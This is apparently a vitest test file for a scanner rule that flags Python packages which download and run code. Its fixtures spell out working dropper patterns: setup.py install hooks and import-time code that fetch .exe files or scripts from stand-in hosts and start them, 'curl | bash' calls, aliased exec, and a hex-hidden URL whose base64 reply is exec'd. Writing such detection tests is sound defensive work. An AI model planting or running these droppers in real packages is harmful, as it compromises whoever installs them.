import { describe, it, expect } from 'vitest';
import { hits, maxSev } from './helpers.js';

describe('download-exec', () => {
  it('flags downloading an .exe and starting it from setup.py (critical)', () => {
    const src = `import os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\ndef execute():\n    r = requests.get("https://a.example.co/Cleaner.exe")\n    open("Cleaner.exe", "wb").write(r.content)\n    os.system("start Cleaner.exe")\nclass P(install):\n    def run(self):\n        execute()\n        install.run(self)\nsetup(name='x', cmdclass={'install': P})\n`;
    expect(maxSev(hits('download-exec', { 'setup.py': src }))).toBe('critical');
  });
  it('flags exec(urlopen(url).read()) at import time', () => {
    const src = `from urllib.request import urlopen\nexec(urlopen('https://example.net/stage2.py').read())\n`;
    expect(maxSev(hits('download-exec', { 'pkg/__init__.py': src }))).toBe('critical');
  });
  it('flags curl | sh handed to a shell', () => {
    const src = `import subprocess\nsubprocess.call('curl -fsSL https://x.example/i.sh | bash', shell=True)\n`;
    expect(maxSev(hits('download-exec', { 'setup.py': src }))).toBe('critical');
  });
  it('keeps a source-tarball download + make build medium at most (lxml/xmlsec pattern)', () => {
    const src = `import subprocess\nfrom urllib.request import urlretrieve\ndef build_libxml2(v):\n    urlretrieve('https://download.gnome.org/sources/libxml2/%s.tar.xz' % v, 'libxml2.tar.xz')\n    subprocess.check_call(['./configure', '--without-python'])\n    subprocess.check_call(['make'])\n`;
    const f = hits('download-exec', { 'buildlibxml.py': src });
    expect(['none', 'low', 'medium']).toContain(maxSev(f));
  });
  it('does not flag network use without any process or exec', () => {
    expect(hits('download-exec', { 'pkg/api.py': `import requests\ndef get(u):\n    return requests.get(u).json()\n` })).toEqual([]);
  });
});

describe('download-exec: aliases and temp-file droppers', () => {
  it('follows `_x = exec` and urlopen aliases inside code written to a temp file', () => {
    const src = `from os import system as _s\nfrom tempfile import NamedTemporaryFile as _t\nf = _t(delete=False)\nf.write(b"""from urllib.request import urlopen as _u; _x=exec; _x(_u('https://x.example/p').read())""")\nf.close()\n_s(f"start pythonw {f.name}")\n`;
    expect(maxSev(hits('download-exec', { 'setup.py': src }))).toBe('critical');
  });
});

describe('download-exec: the dropper split over functions', () => {
  const DROPPER = (where: string) => `import os, subprocess, threading, requests\npath = os.environ["USERPROFILE"] + "\\\\AppData\\\\Local\\\\explorer.exe"\ndef process():\n    if os.path.exists(path):\n        subprocess.run(path, shell=True)\ndef download():\n    r = requests.get("https://cdn.example.net/attachments/1/2/main.exe?ex=65c7&is=65b5")\n    with open(path, 'wb') as f:\n        f.write(r.content)\ndef execute():\n    threading.Thread(target=process).start()\n${where}`;
  it('flags an import-time download of an .exe and a process started through Thread(target=...) (critical)', () => {
    const found = hits('download-exec', { 'pkg/__init__.py': DROPPER('download(); execute()\n') });
    expect(maxSev(found)).toBe('critical');
    expect(found[0].message).toMatch(/Windows executable/);
  });
  it('does not flag the same functions when nothing calls them on import', () => {
    expect(['none', 'low', 'medium', 'high']).toContain(maxSev(hits('download-exec', { 'pkg/__init__.py': DROPPER('') })));
    expect(hits('download-exec', { 'pkg/__init__.py': DROPPER('') }).some((f) => f.severity === 'critical')).toBe(false);
  });
  it('does not flag an import-time installer download of a tarball next to a spawn', () => {
    const src = `import subprocess, urllib.request\ndef fetch():\n    urllib.request.urlretrieve("https://example.org/tool-1.0.tar.gz", "tool.tar.gz")\ndef build():\n    subprocess.check_call(["make"])\nfetch(); build()\n`;
    expect(hits('download-exec', { 'pkg/__init__.py': src }).some((f) => f.severity === 'critical')).toBe(false);
  });
});

describe('download-exec: an executable saved by code that runs unasked', () => {
  it('holds a Windows executable downloaded and written to disk on import (high), not one fetched in a function nothing calls', () => {
    const src = `import requests\nfile = requests.get("https://cdn.discordapp.com/attachments/1/2/PythonLIB.exe?ex=1")\nwith open("lib.exe", "wb") as f:\n    f.write(file.content)\n`;
    expect(maxSev(hits('download-exec', { 'pkg/__init__.py': src }))).toBe('high');
    const later = `import requests\ndef get_tool(dest):\n    r = requests.get("https://downloads.vendor.org/tool-setup.exe")\n    open(dest, "wb").write(r.content)\n`;
    expect(hits('download-exec', { 'pkg/__init__.py': later })).toEqual([]);
  });
  it('does not read a command quoted in an error message as a command', () => {
    const src = `import shutil, subprocess\ndef prepare():\n    if not shutil.which("uv"):\n        raise RuntimeError(\n            "uv is not installed. Please install it with: "\n            "curl -LsSf https://astral.sh/uv/install.sh | sh"\n        )\n    subprocess.run(["uv", "sync"])\n`;
    expect(hits('download-exec', { 'pkg/envs/uv.py': src })).toEqual([]);
  });
});

describe('download-exec: a script written out and started', () => {
  it('holds a .pyw written to APPDATA and started on import (high), not a build step running its own .py helper', () => {
    const src = `from os import environ, startfile\nmal = r"""import os\\nos.system('whoami')"""\nopen(environ['appdata'] + '\\\\mal.pyw', 'w').write(mal)\nstartfile(environ['appdata'] + '\\\\mal.pyw')\n`;
    expect(maxSev(hits('download-exec', { 'pkg/__init__.py': src }))).toBe('high');
    const build = `import subprocess, sys\nfrom setuptools import setup\nopen("pkg/_version.py", "w").write("__version__ = '1.0'")\nsubprocess.check_call([sys.executable, "tools/gen.py"])\nsetup(name="pkg")\n`;
    expect(hits('download-exec', { 'setup.py': build })).toEqual([]);
  });
});

describe('download-exec: fetched, decoded and executed through names', () => {
  it('holds a function that fetches a JSON message, base64-decodes it and execs it (high)', () => {
    const src = `import requests, base64\ndef db_indicator():\n    url = bytes.fromhex('68747470733a2f2f6170692e6578616d706c652e70726f2f736f636b6574').decode()\n    res = requests.get(url)\n    code = base64.b64decode(res.json().get('message', '')).decode()\n    exec(code)\n`;
    expect(maxSev(hits('download-exec', { 'pkg/core.py': src }))).toBe('high');
  });
  it('does not flag a function that may fetch a URL and evals a name from a namespace (IPython find_user_code)', () => {
    const src = `def find_user_code(self, target):\n    if target.startswith('http'):\n        from urllib.request import urlopen\n        return urlopen(target).read().decode('latin1')\n    codeobj = eval(target, self.user_ns)\n    return codeobj\n`;
    expect(hits('download-exec', { 'pkg/core/shell.py': src })).toEqual([]);
  });
  it('does not flag exec of a local version file in a module that also downloads', () => {
    const src = `import requests\ndef version():\n    latest = requests.get('https://pypi.org/pypi/pkg/json').json()['info']['version']\n    ns = {}\n    exec(open('pkg/_version.py').read(), ns)\n    return ns['__version__'], latest\n`;
    expect(hits('download-exec', { 'pkg/util.py': src })).toEqual([]);
  });
});
